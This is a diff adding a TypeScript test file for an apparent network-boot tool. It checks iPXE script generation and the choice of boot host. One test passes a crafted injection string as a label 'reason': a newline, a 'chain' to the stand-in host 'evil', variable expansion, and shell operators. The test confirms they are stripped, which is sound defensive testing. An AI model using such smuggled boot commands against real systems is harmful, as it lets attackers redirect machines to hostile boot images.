@@ -1,0 +1,63 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { encodeIpxe, ipxeScript } from '../../src/boot/script.ts'
+import { reachableHost } from '../../src/boot/urls.ts'
+
+describe('the iPXE script of a machine', () => {
+  test('loads the agent with the server’s address and the interface that booted', () => {
+    const script = ipxeScript('agent', {
+      reason: 'starting the boot agent',
+      arch: 'amd64',
+      arguments: 'console=tty0 console=ttyS0,115200',
+      server: 'https://192.0.2.1:8443',
+    })
+    expect(script).toBe(`#!ipxe
+echo Muster: starting the boot agent
+kernel agent/amd64/kernel initrd=initramfs console=tty0 console=ttyS0,115200 muster.server=https://192.0.2.1:8443 BOOTIF=01-\${netX/mac:hexhyp}
+initrd --name initramfs agent/amd64/initramfs
+boot || goto failed
+:failed
+echo Muster: the boot agent could not be loaded; trying again in 10 seconds
+sleep 10
+chain --replace autoexec.ipxe
+`)
+  })
+
+  test('a reason from a label cannot add a line, a setting or a command', () => {
+    const script = ipxeScript('skip', {
+      reason: 'x\nchain http://evil/\r\n$' + '{net0/mac} && shell || `id` "q" # c',
+    })
+    expect(script.split('\n')).toHaveLength(6)
+    expect(script).not.toMatch(/&&|\|\||\$\{|`|"/)
+  })
+
+  test('a value that the template wants and nobody gave is our own fault', () => {
+    expect(() => ipxeScript('agent', {})).toThrowError(/wants a value/)
+  })
+
+  test('whatever text comes in, no line end, setting, operator or comment comes out', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 4000 }), (text) => {
+        expect(encodeIpxe(text)).toMatch(/^[A-Za-z0-9 ._:,;/=@%+?()[\]*-]{0,2048}$/)
+      }),
+    )
+  })
+})
+
+describe('the host that a machine is told', () => {
+  test('is what the operator advertises', () => {
+    expect(reachableHost({ advertise: 'boot.example.net', serverAddress: '192.0.2.1' })).toBe(
+      'boot.example.net',
+    )
+  })
+  test('else the address that the machine came to', () => {
+    expect(reachableHost({ advertise: undefined, serverAddress: '192.0.2.1' })).toBe('192.0.2.1')
+    expect(reachableHost({ advertise: undefined, serverAddress: '::ffff:192.0.2.1' })).toBe('192.0.2.1')
+  })
+  test('an IPv6 address stands in brackets, without its zone', () => {
+    expect(reachableHost({ advertise: undefined, serverAddress: 'fe80::1%eth0' })).toBe('[fe80::1]')
+  })
+  test('a virtual machine behind QEMU’s user network knows this host as 10.0.2.2', () => {
+    expect(reachableHost({ advertise: undefined, serverAddress: '127.0.0.1' })).toBe('10.0.2.2')
+  })
+})
